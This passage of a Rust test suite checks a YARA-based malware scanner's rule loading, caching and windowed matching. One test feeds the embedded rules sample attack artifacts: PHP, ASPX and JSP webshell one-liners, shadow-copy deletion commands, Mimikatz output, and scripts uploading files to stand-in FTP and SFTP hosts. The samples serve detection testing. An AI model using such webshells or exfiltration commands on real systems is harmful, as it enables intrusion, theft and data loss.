//! YARA rules from loading to evidence.

use std::fs;
use std::path::{Path, PathBuf};

use crate::support::{Case, Scene};
use wardround::model::GapReason;
use wardround::model::Input;
use wardround::signature::{RuleScanner, RuleSet, ScanVars, SignatureError, WINDOW, WINDOW_OVERLAP};

fn rules_of(files: &[(&str, &str)]) -> (tempfile::TempDir, Vec<PathBuf>) {
    let dir = tempfile::tempdir().unwrap();
    let mut paths = Vec::new();
    for (name, text) in files {
        let path = dir.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, text).unwrap();
        paths.push(path);
    }
    (dir, paths)
}

pub(crate) fn load(files: &[(&str, &str)]) -> (RuleSet, Vec<Input>) {
    let (_dir, paths) = rules_of(files);
    RuleSet::load(&paths, false, None).unwrap()
}

pub(crate) fn names(set: &RuleSet, data: &[u8]) -> Vec<String> {
    names_with(set, &ScanVars::default(), data)
}

fn names_with(set: &RuleSet, vars: &ScanVars, data: &[u8]) -> Vec<String> {
    let outcome = RuleScanner::new(set).scan_whole(vars, data).unwrap();
    outcome.matches.into_iter().map(|m| format!("{}:{}", m.namespace, m.rule)).collect()
}

#[test]
fn a_broken_rule_costs_itself_only() {
    let broken = include_str!("../fixtures/signature/broken.yar");
    let (set, reports) = load(&[("broken.yar", broken), ("good.yar", "rule Good { condition: true }")]);
    assert_eq!(names(&set, b"FIXTURE-AFTER-BROKEN"), ["broken.yar:Good_After", "good.yar:Good"]);
    assert_eq!((reports[0].loaded, reports[1].loaded), (2, 1));
    assert_eq!(reports[0].rejected.len(), 1, "{:?}", reports[0].rejected);
    let rejected = &reports[0].rejected[0];
    assert_eq!(rejected.place, "broken.yar:5");
    assert!(rejected.why.contains("unknown pattern"), "{}", rejected.why);
    assert!(!rejected.why.contains(['\n', '\x1b']));
    assert!(reports[1].rejected.is_empty());
    assert_eq!(reports[0].sha256.as_ref().map(String::len), Some(64));
    let json = serde_json::to_value(&reports[0]).unwrap();
    assert_eq!(json["rejected"][0]["where"], "broken.yar:5");
}

#[test]
fn a_fault_beside_a_global_rule_rejects_the_file() {
    let text = "global rule OnlySmall { condition: filesize < 10 }\nrule A { condition: true }\nrule B { condition: $x }";
    let (set, reports) = load(&[("g.yar", text), ("h.yar", "rule H { condition: true }")]);
    assert_eq!(names(&set, b"more than ten bytes"), ["h.yar:H"]);
    assert_eq!((reports[0].loaded, reports[1].loaded), (0, 1));
    assert!(reports[0].rejected.len() >= 2);
    // Without a fault the global rule restricts its own file and no other.
    let (set, _) = load(&[("g.yar", &text[..text.rfind('\n').unwrap()]), ("h.yar", "rule H { condition: true }")]);
    assert_eq!(names(&set, b"more than ten bytes"), ["h.yar:H"]);
    assert_eq!(names(&set, b"small"), ["g.yar:A", "g.yar:OnlySmall", "h.yar:H"]);
}

#[test]
fn syntax_errors_encodings_and_modules_are_named() {
    let (dir, mut paths) = rules_of(&[
        ("a_syntax.yar", "rule A { condition: true }\nrule B { condition true }"),
        (
            "b_module.yar",
            "import \"cuckoo\"\nimport \"pe\"\n\nrule C { condition: cuckoo.sync.mutex(/a/) }\nrule D { condition: C }\nrule E { condition: not pe.is_pe }",
        ),
        ("c_include.yar", "include \"a_syntax.yar\"\nrule F { condition: true }"),
        ("d_empty.yar", ""),
        ("f_regex.yar", "rule G { strings: $a = /foo{}bar\\R/ condition: $a or true }"),
    ]);
    let latin = dir.path().join("e_latin.yar");
    fs::write(&latin, b"rule L {\n // caf\xe9\n condition: true }").unwrap();
    paths.push(latin);
    let bom = dir.path().join("g_bom.yar");
    fs::write(&bom, "\u{feff}rule M { condition: true }").unwrap();
    paths.push(bom);
    let (set, reports) = RuleSet::load(&[dir.path().to_owned()], false, None).unwrap();
    let report = |name: &str| reports.iter().find(|r| r.name == name).unwrap();
    assert!(report("a_syntax.yar").rejected[0].place.starts_with("a_syntax.yar:2"), "{:?}", report("a_syntax.yar"));
    let module = report("b_module.yar");
    assert_eq!(module.loaded, 1);
    assert!(module.rejected[0].why.contains("cuckoo"), "{module:?}");
    assert!(module.rejected.iter().any(|r| r.place == "b_module.yar:5"), "{module:?}");
    let include = report("c_include.yar");
    assert_eq!((include.loaded, include.rejected.len()), (1, 1), "{include:?}");
    assert!(include.rejected[0].why.contains("include"), "{include:?}");
    assert_eq!(report("d_empty.yar").loaded, 0);
    assert!(report("d_empty.yar").rejected.is_empty());
    assert_eq!(report("e_latin.yar").rejected[0].place, "e_latin.yar:2");
    assert_eq!((report("f_regex.yar").loaded, report("g_bom.yar").loaded), (1, 1));
    assert!(names(&set, b"").contains(&"b_module.yar:E".to_owned()));
}

#[test]
fn files_folders_and_equal_names() {
    let (dir, paths) = rules_of(&[
        ("one/x.yar", "rule Same { condition: true }"),
        ("two/x.yar", "rule Same { condition: 1 == 1 }"),
        ("two/deep/y.YARA", "rule Y { condition: true }"),
        ("two/z.rule", "rule Z { condition: true }"),
        ("two/copy.yar", "rule Same { condition: true }"),
        ("two/notes.txt", "not a rule"),
        ("named.txt", "rule Named { condition: true }"),
    ]);
    let given = [paths[0].clone(), dir.path().join("two"), paths[6].clone()];
    let (set, reports) = RuleSet::load(&given, false, None).unwrap();
    let loaded: Vec<_> = reports.iter().map(|r| (r.name.as_str(), r.loaded)).collect();
    assert_eq!(loaded, [("x.yar", 1), ("copy.yar", 0), ("deep/y.YARA", 1), ("x.yar (2)", 1), ("z.rule", 1), ("named.txt", 1)]);
    assert!(reports[1].rejected[0].why.contains("same content as x.yar"), "{:?}", reports[1]);
    assert_eq!(
        names(&set, b""),
        ["deep/y.YARA:Y", "named.txt:Named", "x.yar:Same", "x.yar (2):Same", "z.rule:Z"].map(str::to_owned)
    );
    assert_eq!((set.len(), set.is_empty()), (5, false));
}

#[test]
fn paths_that_can_not_be_used() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("no such file.yar");
    let error = RuleSet::load(std::slice::from_ref(&missing), false, None).unwrap_err();
    assert!(matches!(&error, SignatureError::Missing(p) if *p == missing));
    assert!(error.to_string().contains("no such file.yar") && error.to_string().contains("--rules"));
    let (_, reports) = RuleSet::load(&[dir.path().to_owned()], false, None).unwrap();
    assert!(reports[0].rejected[0].why.contains("no rule file"), "{reports:?}");
    let (set, reports) = RuleSet::load(&[], false, None).unwrap();
    assert!(set.is_empty() && reports.is_empty());
    assert_eq!(names(&set, b"anything"), Vec::<String>::new());
}

#[test]
fn externals_are_set_for_each_object() {
    let text = r#"
        rule Name { condition: filename == "a.exe" and extension == ".exe" and filepath == "/x" }
        rule Type { condition: filetype == "EXE" and owner == "0:0" }
        rule Digest { condition: md5 == "00ff" }
        rule Empty { condition: filename == "" and filepath == "" and extension == "" and filetype == "" and owner == "" and md5 == "" }"#;
    let (set, reports) = load(&[("e.yar", text)]);
    assert_eq!(reports[0].loaded, 4, "{reports:?}");
    assert!(set.needs_md5());
    assert!(!load(&[("n.yar", "rule N { meta: md5 = \"00ff\" condition: true }")]).0.needs_md5());
    let vars = ScanVars {
        filename: "a.exe".to_owned(),
        filepath: "/x".to_owned(),
        extension: ".exe".to_owned(),
        filetype: "EXE".to_owned(),
        owner: "0:0".to_owned(),
        md5: "00ff".to_owned(),
        ..ScanVars::default()
    };
    let mut scanner = RuleScanner::new(&set);
    for _ in 0..2 {
        assert_eq!(scanner.scan_whole(&vars, b"x").unwrap().matches.len(), 3);
        let outcome = scanner.scan_whole(&ScanVars::default(), b"x").unwrap();
        assert_eq!(outcome.matches.len(), 1);
        assert_eq!(outcome.matches[0].rule, "Empty");
    }
}

#[test]
fn the_cache_is_used_checked_and_rewritten() {
    let (dir, paths) = rules_of(&[("a.yar", "rule A { strings: $a = \"needle\" condition: $a }\nrule B { condition: $no }")]);
    let cache = dir.path().join("cache/rules");
    let (first, reports) = RuleSet::load(&paths, true, Some(&cache)).unwrap();
    assert!(!first.from_cache());
    let file = only_file(&cache);
    let (second, again) = RuleSet::load(&paths, true, Some(&cache)).unwrap();
    assert!(second.from_cache());
    assert_eq!(reports, again);
    assert_eq!(names(&first, b"a needle"), names(&second, b"a needle"));
    // Every sort of damage costs time, nothing else.
    let whole = fs::read(&file).unwrap();
    let mut flipped = whole.clone();
    let middle = flipped.len() / 2;
    flipped[middle] ^= 1;
    let damages: Vec<Vec<u8>> = vec![flipped, whole[..whole.len() - 1].to_vec(), whole[..20].to_vec(), Vec::new(), vec![0; 4096]];
    for damaged in damages {
        fs::write(&file, damaged).unwrap();
        let (set, reports) = RuleSet::load(&paths, true, Some(&cache)).unwrap();
        assert!(!set.from_cache());
        assert_eq!(reports, again);
        assert_eq!(fs::read(&file).unwrap().len(), whole.len());
    }
    assert!(RuleSet::load(&paths, true, Some(&cache)).unwrap().0.from_cache());
    // Other sources have another key.
    assert!(!RuleSet::load(&paths, false, Some(&cache)).unwrap().0.from_cache());
    // A cache that can't be written is no error.
    assert!(RuleSet::load(&paths, false, Some(&paths[0].join("below a file"))).is_ok());
}

#[cfg(unix)]
#[test]
#[cfg(unix)]
fn a_cache_that_others_can_write_is_not_trusted() {
    use std::os::unix::fs::PermissionsExt;
    let (dir, paths) = rules_of(&[("a.yar", "rule A { condition: true }")]);
    let cache = dir.path().join("cache");
    RuleSet::load(&paths, false, Some(&cache)).unwrap();
    let file = only_file(&cache);
    assert!(RuleSet::load(&paths, false, Some(&cache)).unwrap().0.from_cache());
    fs::set_permissions(&file, fs::Permissions::from_mode(0o666)).unwrap();
    assert!(!RuleSet::load(&paths, false, Some(&cache)).unwrap().0.from_cache());
}

fn only_file(dir: &Path) -> PathBuf {
    let files: Vec<_> = fs::read_dir(dir).unwrap().map(|e| e.unwrap().path()).collect();
    assert_eq!(files.len(), 1, "{files:?}");
    files[0].clone()
}

#[test]
fn matches_say_where_and_never_what() {
    let text =
        "rule R : tag_b tag_a { meta: score = 60 description = \"d\" x = 1 x = 2 strings: $s = /SECRET-[0-9]+/ condition: $s }";
    let (set, _) = load(&[("r.yar", text)]);
    let mut data = b"....SECRET-12345....".to_vec();
    for _ in 0..30 {
        data.extend_from_slice(b"SECRET-12345 ");
    }
    let outcome = RuleScanner::new(&set).scan_whole(&ScanVars::default(), &data).unwrap();
    let m = &outcome.matches[0];
    assert_eq!((m.score, m.hits.len(), m.hit_count), (60, 20, 31));
    assert_eq!((m.hits[0].id.as_str(), m.hits[0].offset, m.hits[0].length), ("$s", 4, 12));
    assert_eq!(m.tags, ["tag_a", "tag_b"]);
    assert_eq!(m.meta["x"], serde_json::json!([1, 2]));
    let said = format!("{}{outcome:?}", serde_json::to_string(&outcome.matches).unwrap());
    assert!(!said.contains("12345"));
}

#[test]
fn a_flood_of_matches_is_bounded_and_said() {
    let text = "rule Flood { strings: $a = \"ab\" condition: $a }\nrule Many { strings: $a = \"ab\" condition: #a > 5000 }";
    let (set, _) = load(&[("f.yar", text)]);
    let mut scanner = RuleScanner::new(&set);
    let exact = scanner.scan_whole(&ScanVars::default(), &b"ab".repeat(6_000)).unwrap();
    assert_eq!((exact.matches.len(), exact.gap), (2, None));
    let cut = scanner.scan_whole(&ScanVars::default(), &b"ab".repeat(60_000)).unwrap();
    assert_eq!(cut.gap.unwrap().reason, GapReason::LimitMatches);
    // The rule that was silenced by the bound is enough for the gap.
    let (set, _) = load(&[("m.yar", "rule Many { strings: $a = \"ab\" condition: #a > 5000 }")]);
    let cut = RuleScanner::new(&set).scan_whole(&ScanVars::default(), &b"ab".repeat(60_000)).unwrap();
    assert_eq!((cut.matches.len(), cut.gap.unwrap().reason), (0, GapReason::LimitMatches));
    // One that only asks whether the pattern is there is not silenced.
    let text = "rule Not { strings: $a = \"ab\" $b = \"zz\" condition: $a and $b }";
    let quiet = RuleScanner::new(&load(&[("n.yar", text)]).0).scan_whole(&ScanVars::default(), &b"ab".repeat(60_000)).unwrap();
    assert_eq!((quiet.matches.len(), quiet.gap), (0, None));
}

fn windowed(set: &RuleSet, data: &[u8], chunk: usize) -> Vec<(String, Vec<u64>)> {
    let mut scanner = RuleScanner::new(set);
    scanner.begin_windows(ScanVars::default());
    let mut offset = 0;
    for part in data.chunks(chunk) {
        scanner.window(offset, part);
        offset += part.len() as u64;
    }
    let outcome = scanner.finish_windows("00ff").unwrap();
    assert_eq!(outcome.gap, None);
    outcome.matches.into_iter().map(|m| (m.rule, m.hits.iter().map(|h| h.offset).collect())).collect()
}

#[test]
fn windows_see_every_place_once() {
    let text = r#"
        rule Needle { strings: $a = "NEEDLE-0123456789" condition: $a }
        rule Start { strings: $a = "NEEDLE" condition: uint16(0) == 0x5a4d and $a }
        rule Sized { strings: $a = "NEEDLE" condition: $a and filesize < 30MB }
        rule SizedToo { condition: Sized }
        rule Digest { condition: md5 == "00ff" }"#;
    let (set, _) = load(&[("w.yar", text)]);
    let mut data = vec![b'.'; WINDOW * 2 + 12_345];
    data[..2].copy_from_slice(b"MZ");
    let needle = b"NEEDLE-0123456789";
    let places = [100, WINDOW - 8, WINDOW - WINDOW_OVERLAP - 3, WINDOW - WINDOW_OVERLAP / 2, data.len() - needle.len()];
    for at in places {
        data[at..at + needle.len()].copy_from_slice(needle);
    }
    let mut expected: Vec<u64> = places.iter().map(|&p| p as u64).collect();
    expected.sort_unstable();
    for chunk in [64 << 10, 1_000_003, data.len()] {
        let found = windowed(&set, &data, chunk);
        let rules: Vec<_> = found.iter().map(|(r, _)| r.as_str()).collect();
        assert_eq!(rules, ["Digest", "Needle", "Start"], "{found:?}");
        assert_eq!(found[1].1, expected, "chunk {chunk}");
    }
    // Objects smaller than a window, and empty ones.
    assert_eq!(windowed(&set, b"..NEEDLE-0123456789", 5)[1].1, [2]);
    assert_eq!(windowed(&set, b"", 5).len(), 1);
}

/// What is unknown in windows never makes a rule hold.
#[test]
fn windows_accuse_nobody_by_mistake() {
    let text = r#"
        import "pe"
        private rule Small { condition: filesize < 1MB }
        rule Not_Small { condition: not Small }
        rule Not_Small_And { strings: $a = "NEEDLE" condition: $a and not (filesize < 100MB and $a) }
        rule Not_Late { strings: $a = "NEEDLE" $b = "LATE" condition: $a and not $b }
        rule None_Of { strings: $a = "NEEDLE" condition: $a and none of (filesize < 100MB, pe.is_pe) }
        rule Either { strings: $a = "NEEDLE" condition: $a or filesize > 100MB }
        rule Head { strings: $a = "NEEDLE" condition: uint16(0) == 0x5a4d and $a }"#;
    let (set, reports) = load(&[("w.yar", text)]);
    assert_eq!(reports[0].not_in_windows, ["Not_Small", "Not_Small_And", "None_Of", "Either", "Head"]);
    let mut data = vec![b'.'; WINDOW * 2];
    data[..2].copy_from_slice(b"MZ");
    data[100..106].copy_from_slice(b"NEEDLE");
    let late = data.len() - 100;
    data[late..late + 4].copy_from_slice(b"LATE");
    let found = windowed(&set, &data, 1 << 20);
    let rules: Vec<_> = found.iter().map(|(r, _)| r.as_str()).collect();
    assert_eq!(rules, ["Either", "Head"]);
    // The whole object says the same, and of `Not_Small` what windows can't tell.
    assert_eq!(names(&set, &data), ["w.yar:Either", "w.yar:Head", "w.yar:Not_Small"]);
    // What the first window decided alone says so.
    let mut scanner = RuleScanner::new(&set);
    scanner.begin_windows(ScanVars::default());
    scanner.window(0, &data);
    let first: Vec<bool> = scanner.finish_windows("").unwrap().matches.iter().map(|m| m.first_window).collect();
    assert_eq!(first, [false, true]);
}

#[test]
fn the_embedded_pack_loads_whole_and_finds_its_own() {
    let (set, reports) = RuleSet::load(&[], true, None).unwrap();
    for report in &reports {
        assert!(report.loaded > 0 && report.rejected.is_empty(), "{report:?}");
    }
    let marker = ["WARDROUND", "DEMO", "YARA", "MARKER"].join("-");
    assert_eq!(names(&set, format!("x {marker} y").as_bytes()), ["embedded/demo/wardround_demo.yar:Wardround_Demo_Marker"]);
    let config = "[out]\r\ntype = mega\r\nuser = someone@example.org\r\npass = abcdefghijklmnopqrstuvwx\r\n";
    assert_eq!(
        names(&set, config.as_bytes()),
        ["embedded/exfiltration/rclone.yar:Rclone_Config_Mega", "embedded/exfiltration/rclone.yar:Rclone_Config_Remote"]
    );
    let cases: &[(&str, &str)] = &[
        ("Rclone_Config_Remote", "[nas]\nendpoint = x\ntype = s3\nsecret_access_key = aaaaaaaaaaaaaaaaaaaaaaaa\n"),
        ("Script_Ftp_Upload_Many", "open ftp.example.org\nuser\nsecret\nprompt\nmput *.zip\nbye\n"),
        ("Script_WinSCP_Upload", "option batch abort\nopen sftp://u:p@host.example/\nput \"C:\\claims\\*\" /in/\nexit\n"),
        ("Script_Archive_Hidden_Names", "rar.exe a -r -v500m -hpS3cret out.rar D:\\EHR\\\n"),
        ("Share_Survey_Result", "\\\\A\\C$ - Default share\n\\\\B\\ADMIN$ - Remote Admin\n\\\\C\\C$\t- Default share\n"),
        ("AdFind_Result", "\nAdFind V01.52.00cpp Joe\n\nUsing server: dc1\nDirectory: x\n\ndn:CN=Somebody\n"),
        ("Mimikatz_Result", "Authentication Id : 0 ; 996\n\tmsv :\t\n\t * NTLM     : 0123456789abcdef0123456789abcdef\n"),
        (
            "Password_Hash_Dump",
            "\na:500:aad3b435b51404eeaad3b435b51404ee:0123456789abcdef0123456789abcdef:::\nb:501:aad3b435b51404eeaad3b435b51404ee:0123456789abcdef0123456789abcdef:::\n",
        ),
        ("Remote_Shell_Over_Admin_Share", "cmd.exe /Q /c dir 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.1 2>&1"),
        ("Script_Destroys_Recovery", "vssadmin.exe delete shadows /all /quiet\nbcdedit /set {default} recoveryenabled no\n"),
        ("Webshell_PHP_Request_Run", "<?php @eval($_POST['x']); ?>"),
        ("Webshell_ASPX_Eval", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>"),
        ("Webshell_JSP_Request_Run", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
    ];
    for (rule, text) in cases {
        let found = names(&set, text.as_bytes());
        assert!(found.iter().any(|f| f.ends_with(&format!(":{rule}"))), "{rule}: {found:?}");
    }
    let onion = "a2".repeat(28);
    let note = format!(
        "All your files have been encrypted. Data was stolen. We will publish it. Pay for the decryptor: http://{onion}.onion/"
    );
    assert_eq!(names(&set, note.as_bytes()), ["embedded/ransomware/notes.yar:Ransom_Note"]);
}

#[test]
fn the_embedded_pack_does_not_match_itself() {
    let (set, _) = RuleSet::load(&[], true, None).unwrap();
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("signatures/yara");
    let mut all = b"MZ".to_vec();
    for entry in walkdir::WalkDir::new(folder).sort_by_file_name().into_iter().map(Result::unwrap) {
        if entry.file_type().is_dir() {
            continue;
        }
        let text = fs::read(entry.path()).unwrap();
        assert_eq!(names(&set, &text), Vec::<String>::new());
        all.extend_from_slice(&text);
    }
    // A program that carries them all, under any name.
    all.resize(5 << 20, 0);
    let vars = ScanVars { filename: "x.exe".to_owned(), ..ScanVars::default() };
    assert_eq!(names_with(&set, &vars, &all), Vec::<String>::new());
}

#[test]
fn eicar_of_the_corpus() {
    let path = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpus/binaries/eicar/eicar.com"));
    let Ok(eicar) = fs::read(path) else {
        println!("skipped: no corpus");
        return;
    };
    let (set, _) = RuleSet::load(&[], true, None).unwrap();
    assert_eq!(names(&set, &eicar), ["embedded/demo/eicar.yar:EICAR_Test_File"]);
    let mut changed = eicar;
    changed[3] ^= 1;
    assert_eq!(names(&set, &changed), Vec::<String>::new());
}

/// Programs and libraries of this system give no match that would be a warning.
#[test]
fn ordinary_system_files_stay_quiet() {
    let (set, _) = RuleSet::load(&[], true, None).unwrap();
    let mut scanner = RuleScanner::new(&set);
    let most: u64 = std::env::var("WARDROUND_BENIGN_MIB").ok().and_then(|v| v.parse().ok()).unwrap_or(64) << 20;
    let mut seen = 0;
    for entry in walkdir::WalkDir::new("/usr").sort_by_file_name().into_iter().flatten() {
        if seen >= most || !entry.file_type().is_file() || entry.metadata().is_ok_and(|m| m.len() > 256 << 20) {
            continue;
        }
        let Ok(bytes) = fs::read(entry.path()) else { continue };
        seen += bytes.len() as u64;
        let vars = ScanVars { filename: entry.file_name().to_string_lossy().into_owned(), ..ScanVars::default() };
        let outcome = scanner.scan_whole(&vars, &bytes).unwrap();
        for m in &outcome.matches {
            assert!(m.score < 60, "{} {}", entry.path().display(), m.rule);
            println!("{} {} {}", m.score, m.rule, entry.path().display());
        }
        if let Some(gap) = outcome.gap {
            println!("{} {}", gap.detail, entry.path().display());
        }
    }
    println!("{} MiB", seen >> 20);
}

/// Names of the rules that accused the object whose shown path ends so.
fn accused(case: &Case, end: &str) -> Vec<String> {
    let mut out = Vec::new();
    for finding in case.of("yara") {
        let reasons = finding["reasons"].as_array().unwrap();
        let of = |r: &serde_json::Value| r["id"].as_str().unwrap().trim_start_matches("yara.").to_owned();
        if finding["path"].as_str().is_some_and(|p| p.ends_with(end)) {
            out.extend(reasons.iter().map(of));
        }
    }
    out.sort();
    out
}

fn input<'c>(case: &'c Case, name: &str) -> &'c serde_json::Value {
    let rules = case.report["inputs"]["rules"].as_array().unwrap();
    rules.iter().find(|i| i["name"] == name).unwrap()
}

/// A pair of rules for every external: one that holds and one that must not.
fn pairs(externals: &[(&str, &str, &str)]) -> String {
    externals
        .iter()
        .map(|(name, yes, no)| {
            format!("rule yes_{name} {{ condition: {name} == {yes} }}\nrule no_{name} {{ condition: {name} == {no} }}\n")
        })
        .collect()
}

fn only_yes(externals: &[(&str, &str, &str)]) -> Vec<String> {
    let mut out: Vec<String> = externals.iter().map(|(name, ..)| format!("yes_{name}")).collect();
    out.sort();
    out
}

fn zip_of(name: &str, content: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
    zip.write_all(content).unwrap();
    zip.finish().unwrap().into_inner()
}

#[cfg(unix)]
#[test]
#[cfg(unix)]
fn externals_of_a_file_on_a_mapped_drive() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let scene = Scene::new();
    let path = scene.file("Users/A/Tool.EXE", b"%PDF-1.7 sample");
    fs::set_permissions(&path, fs::Permissions::from_mode(0o640)).unwrap();
    let meta = fs::metadata(&path).unwrap();
    let name = |id: u32| if id == 0 { "\"root\"".to_owned() } else { format!("\"{id}\"") };
    let (owner, group) = (name(meta.uid()), name(meta.gid()));
    let externals = [
        ("filename", "\"Tool.EXE\"", "\"tool.exe\""),
        ("filepath", r#""C:\\Users\\A""#, r#""C:\\Users\\A\\Tool.EXE""#),
        ("extension", "\".exe\"", "\"exe\""),
        ("filetype", "\"PDF\"", "\"EXE\""),
        ("owner", owner.as_str(), "\"nobody at all\""),
        ("group", group.as_str(), "\"nobody at all\""),
        ("filemode", "0o100640", "0o640"),
        ("permissions", "\"-rw-r-----\"", "\"-rw-r--r--\""),
        ("unpack_parent", "\"\"", "\"PDF\""),
        ("unpack_source", "\"\"", "\"PDF\""),
        ("timezone", "\"\"", "\"UTC\""),
        ("language", "\"\"", "\"en\""),
        ("osversion", "0", "1"),
        ("md5", "\"MD5\"", "\"\""),
    ];
    let digest = {
        use md5::Digest;
        md5::Md5::digest(b"%PDF-1.7 sample").iter().map(|b| format!("{b:02x}")).collect::<String>()
    };
    let rules = scene.beside("e.yar");
    fs::write(&rules, pairs(&externals).replace("MD5", &digest)).unwrap();
    let map = format!("{}=C:", scene.target().display());
    let case = scene.scan(&["--rules", rules.to_str().unwrap(), "--no-default-rules", "--map", &map]);
    assert_eq!(input(&case, "e.yar")["rejected"], serde_json::json!([]));
    assert_eq!(accused(&case, "Tool.EXE"), only_yes(&externals), "{}", case.stderr());
}

#[test]
fn externals_of_members() {
    let scene = Scene::new();
    let inner = zip_of("Deep/Page.PHP", b"<?php echo 1;");
    scene.file("outer.zip", zip_of("inner.zip", &inner));
    let externals = [
        ("filename", "\"Page.PHP\"", "\"inner.zip\""),
        ("extension", "\".php\"", "\".PHP\""),
        ("filetype", "\"PHP\"", "\"ZIP\""),
        ("unpack_parent", "\"ZIP\"", "\"zip\""),
        ("unpack_source", "\"ZIP>ZIP\"", "\"ZIP\""),
    ];
    let mut text = pairs(&externals);
    text.push_str("rule yes_filepath { condition: filepath endswith \"/outer.zip/inner.zip/Deep\" }");
    let rules = scene.beside("e.yar");
    fs::write(&rules, text).unwrap();
    let case = scene.scan(&["--rules", rules.to_str().unwrap(), "--no-default-rules"]);
    let mut expected = only_yes(&externals);
    expected.push("yes_filepath".to_owned());
    expected.sort();
    assert_eq!(accused(&case, "Page.PHP"), expected);
    // The chain ends with its container: what comes after, and the containers themselves, are not inside.
    assert_eq!(accused(&case, "inner.zip"), ["no_filename", "no_filetype", "no_unpack_source", "yes_unpack_parent"]);
    assert_eq!(accused(&case, "outer.zip"), ["no_filetype"]);
}

#[test]
fn meta_type_falsepositive_and_limit() {
    let text = "rule Memory { meta: type = \"memory, registry\" condition: true }\n\
        rule Both { meta: type = \"memory,file\" score = 60 condition: true }\n\
        rule Known { meta: falsepositive = 1 score = 60 condition: true }\n\
        rule Few { meta: limit = 2 strings: $a = \"x\" condition: $a }";
    let (set, reports) = load(&[("m.yar", text)]);
    assert_eq!((reports[0].loaded, reports[0].not_for_files.as_slice()), (4, ["Memory".to_owned()].as_slice()));
    let outcome = RuleScanner::new(&set).scan_whole(&ScanVars::default(), b"xxxx").unwrap();
    let said: Vec<_> = outcome.matches.iter().map(|m| (m.rule.as_str(), m.score, m.hits.len(), m.hit_count)).collect();
    assert_eq!(said, [("Both", 60, 0, 0), ("Few", 75, 2, 4), ("Known", -60, 0, 0)]);
    assert!(serde_json::to_value(&load(&[("n.yar", "rule N { condition: true }")]).1[0]).unwrap().get("not_for_files").is_none());
}

#[test]
fn a_score_that_is_subtracted() {
    let scene = Scene::new();
    scene.file("a.txt", "needle");
    let finding = |text: &str| {
        let rules = scene.beside("s.yar");
        fs::write(&rules, text).unwrap();
        let case = scene.scan(&["--rules", rules.to_str().unwrap(), "--no-default-rules"]);
        case.findings().iter().find(|f| f["category"] == "yara").map_or(0, |f| f["score"].as_i64().unwrap())
    };
    let bad = "rule Bad { meta: score = 80 strings: $a = \"needle\" condition: $a }\n";
    let plain = finding(bad);
    assert!(finding(&format!("{bad}rule Known {{ meta: score = 50 falsepositive = true condition: true }}")) < plain);
    assert_eq!(finding(&format!("{bad}rule Known {{ meta: score = 50 type = \"logs\" condition: true }}")), plain);
}

#[test]
fn rules_that_do_not_apply_in_windows_are_named() {
    let scene = Scene::new();
    let path = scene.file("large.bin", vec![b'.'; 3 << 20]);
    let mut text = "import \"pe\"\nprivate rule Helper { condition: filesize > 1 }\n\
        rule Plain { strings: $a = \"zz filesize zz\" condition: $a and md5 != \"\" }\n\
        rule Meant { meta: type = \"memory\" condition: filesize > 1 }\n"
        .to_owned();
    let mut expected = vec!["Size", "Bytes", "Structure", "User"].into_iter().map(str::to_owned).collect::<Vec<_>>();
    text.push_str("rule Size { condition: filesize == 1 }\nrule Bytes { condition: uint16(0) == 0x5a4d }\n");
    text.push_str("rule Structure { condition: pe.is_dll() }\nrule User { condition: Helper and Bytes }\n");
    for n in 0..30 {
        text.push_str(&format!("rule More{n} {{ condition: filesize == {n} }}\n"));
        expected.push(format!("More{n}"));
    }
    let rules = scene.beside("w.yar");
    fs::write(&rules, &text).unwrap();
    let flags = ["--rules", rules.to_str().unwrap(), "--no-default-rules", "--max-body", "1M"];
    let case = scene.scan(&flags);
    assert_eq!(input(&case, "w.yar")["not_in_windows"], serde_json::json!(expected));
    assert_eq!(case.row(&path)["reason"], "limit_body");
    let gaps = case.report["gaps"].to_string();
    assert!(gaps.contains("34 need its size") && gaps.contains("Size, Bytes, Structure, User, More0"), "{gaps}");
    assert!(gaps.contains("More15, …") && !gaps.contains("More16") && !gaps.contains("Plain"), "{gaps}");
    // Rules that hold everywhere are said to.
    fs::write(&rules, "rule Plain { strings: $a = \"zz\" condition: $a }").unwrap();
    let case = scene.scan(&flags);
    assert!(input(&case, "w.yar").get("not_in_windows").is_none());
    let gaps = case.report["gaps"].to_string();
    assert!(gaps.contains("all of them apply there"), "{gaps}");
}

#[test]
fn rules_of_missing_modules_are_named_one_by_one() {
    let text = "import \"cuckoo\"\nimport \"vt\"\nimport \"magic\"\nimport \"pe\"\n\
        rule Kept { condition: true }\n\
        rule Sandbox { condition: cuckoo.sync.mutex(/a/) }\n\
        rule Intelligence { condition: vt.metadata.new_file }\n\
        rule Magic { condition: magic.type() contains \"PE\" }\n\
        rule Depends { condition: Magic or true }\n\
        rule Further { condition: Depends }\n\
        rule KeptToo { condition: Kept and not pe.is_pe }";
    let (set, reports) = load(&[("m.yar", text)]);
    assert_eq!(names(&set, b"x"), ["m.yar:Kept", "m.yar:KeptToo"]);
    let said: Vec<_> = reports[0].rejected.iter().map(|r| (r.place.as_str(), r.why.as_str())).collect();
    let expected = [
        ("m.yar:6", "rule Sandbox", "module cuckoo"),
        ("m.yar:7", "rule Intelligence", "module vt"),
        ("m.yar:8", "rule Magic", "module magic"),
        ("m.yar:9", "rule Depends", "rule Magic"),
        ("m.yar:10", "rule Further", "rule Depends"),
    ];
    assert_eq!(said.len(), expected.len(), "{said:?}");
    for ((place, why), (at, rule, reason)) in said.iter().zip(expected) {
        assert!(*place == at && why.starts_with(rule) && why.contains(reason), "{place} {why}");
    }
}

/// Whatever happens to sources and cache, the answers are those of the sources.
#[test]
fn a_cache_never_changes_an_answer() {
    let text = "rule A { strings: $a = \"needle\" condition: $a and md5 == \"\" }\nrule B { condition: filesize > 2 }\n\
        rule C { meta: type = \"memory\" condition: true }";
    let (dir, paths) = rules_of(&[("a.yar", text)]);
    let cache = dir.path().join("cache");
    let (plain, reports) = RuleSet::load(&paths, false, None).unwrap();
